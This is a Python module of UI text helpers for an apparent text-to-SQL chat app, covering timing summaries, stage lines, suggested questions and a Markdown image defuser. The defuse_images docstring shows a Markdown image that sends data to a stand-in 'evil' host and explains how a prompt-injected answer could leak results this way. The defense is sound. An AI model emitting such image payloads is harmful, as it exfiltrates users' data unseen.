"""Text the UI shows around an answer: timings beside their targets, stage lines, suggestions.

Pure functions over message metadata (no Streamlit), so the live message, the history and the
performance page all say the same thing in the same words, and tests can check it directly.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

from ..metrics import TARGETS, assess, format_ms
from ..schema import Schema

# Short labels for the one-line timing summary under each answer, in metrics.TARGETS order.
SHORT = {"sql_ms": "SQL", "execution_ms": "query", "first_token_ms": "first token", "total_ms": "total"}

STOPPED_NOTE = "Stopped: the answer above is what arrived before you stopped it."
INCOMPLETE_NOTE = "Incomplete: the answer stream broke off; the part above is what arrived."
UNFINISHED_NOTE = "This answer did not finish (the page was interrupted); the part above is what arrived."
NO_TEXT = "_(no answer text arrived)_"


def count(n: Any) -> str:
    """Row counts with thousands separators; people compare 1,234 and 12,340 at a glance."""
    return f"{n:,}" if isinstance(n, int) else "-"


def timing_line(meta: Mapping[str, Any]) -> str:
    """One Markdown line: rows analyzed / total, then every stage time beside its target.

    A met target gets a green tick, a missed one an orange cross, an unmeasured stage a dash, so
    the line reads the same in the live message, in history and in screenshots.
    """
    parts = []
    total, analyzed = meta.get("total_rows"), meta.get("rows_analyzed")
    if total is not None and analyzed is not None:
        parts.append(f"**{count(analyzed)}** of **{count(total)}** result rows analyzed")
    elif total is not None:  # stopped or failed before the answer: the query did run
        parts.append(f"**{count(total)}** result rows")
    for check in assess(meta):
        label = SHORT.get(check.target.key, check.target.label)
        if check.met is None:
            continue
        mark = ":green[✓]" if check.met else ":orange[✗]"
        parts.append(f"{label} **{format_ms(check.value_ms)}** ({check.target.text} {mark})")
    return " · ".join(parts)


def stage_lines(meta: Mapping[str, Any]) -> list[str]:
    """The st.status body: one line per finished stage, with its time and target."""
    lines = []
    by_key = {t.key: t for t in TARGETS}
    if meta.get("sql_ms") is not None:
        attempts = meta.get("attempts") or 1
        again = f" after {attempts} attempts" if attempts > 1 else ""
        lines.append(f"Wrote SQL{again} in {format_ms(meta['sql_ms'])} (target {by_key['sql_ms'].text})")
    if meta.get("execution_ms") is not None:
        lines.append(
            f"Ran the query in {format_ms(meta['execution_ms'])} (target {by_key['execution_ms'].text}), "
            f"{count(meta.get('total_rows'))} rows"
        )
    if meta.get("first_token_ms") is not None:
        lines.append(
            f"First token after {format_ms(meta['first_token_ms'])} (target {by_key['first_token_ms'].text}), "
            f"whole answer in {format_ms(meta.get('total_ms'))} (target {by_key['total_ms'].text})"
        )
    return lines


def done_label(meta: Mapping[str, Any]) -> str:
    """The collapsed st.status label once an answer is complete."""
    return f"Answered in {format_ms(meta.get('total_ms'))} · SQL {format_ms(meta.get('sql_ms'))} · query {format_ms(meta.get('execution_ms'))}"


# Questions that work on the bundled sample data; shown as buttons on an empty chat page.
SAMPLE_QUESTIONS: dict[str, tuple[str, ...]] = {
    "penguins": (
        "How many penguins of each species are there?",
        "What is the average body mass by species?",
        "Which island has the most penguins?",
    ),
    "seattle_weather": (
        "What is the average maximum temperature per month?",
        "How many days of each weather type were there?",
    ),
}


def suggestions(schema: Schema, limit: int = 5) -> list[str]:
    """Suggested questions for what is loaded: tailored ones for the samples, a generic one per upload.

    Newest uploads first, because a person who just dropped in a file wants to ask about it.
    """
    out: list[str] = []
    for table in reversed(schema.tables):
        if table.name in SAMPLE_QUESTIONS:
            continue
        out.append(f"How many rows are in {table.name}?")
        text = next((c for c in table.columns if c.kind == "text" and c.values_complete and 1 < c.distinct <= 30), None)
        if text is not None:
            out.append(f"How many rows are in {table.name} for each {text.name}?")
    for table in schema.tables:
        out.extend(SAMPLE_QUESTIONS.get(table.name, ()))
    if not out and schema.tables:
        out.append("How many rows are there?")
    seen: list[str] = []
    for q in out:
        if q not in seen:
            seen.append(q)
    return seen[:limit]


_IMAGE = re.compile(r"!(?=\[)")
ZWSP = "\u200b"


def defuse_images(text: str) -> str:
    """Break Markdown image syntax in model text: ``![x](https://evil/?q=data)`` stays visible text.

    HTML is never enabled, but a Markdown image is fetched by the browser as soon as it renders,
    so a prompt-injected answer could leak result data in an image URL without anyone clicking.
    A zero-width space between ``!`` and ``[`` turns the image into a plain (click-only) link.
    """
    return _IMAGE.sub("!" + ZWSP, text)


def defuse_stream(tokens: Iterable[str]) -> Iterator[str]:
    """``defuse_images`` for a token stream, where ``!`` and ``[`` may arrive in different tokens."""
    previous = ""
    for token in tokens:
        if previous.endswith("!") and token.startswith("["):
            token = ZWSP + token
        token = defuse_images(token)
        previous = token or previous
        yield token


def safe_filename(text: str, default: str = "result") -> str:
    """A download name from a question: letters, digits and dashes only, short."""
    slug = re.sub(r"[^0-9a-zA-Z]+", "-", text).strip("-").lower()[:50]
    return slug or default


def table_summary(rows: Sequence[tuple[str, int, int]]) -> str:
    """Sidebar list of tables as Markdown: name, rows, columns."""
    return "\n".join(f"- `{name}` · {count(n)} rows · {cols} cols" for name, n, cols in rows)
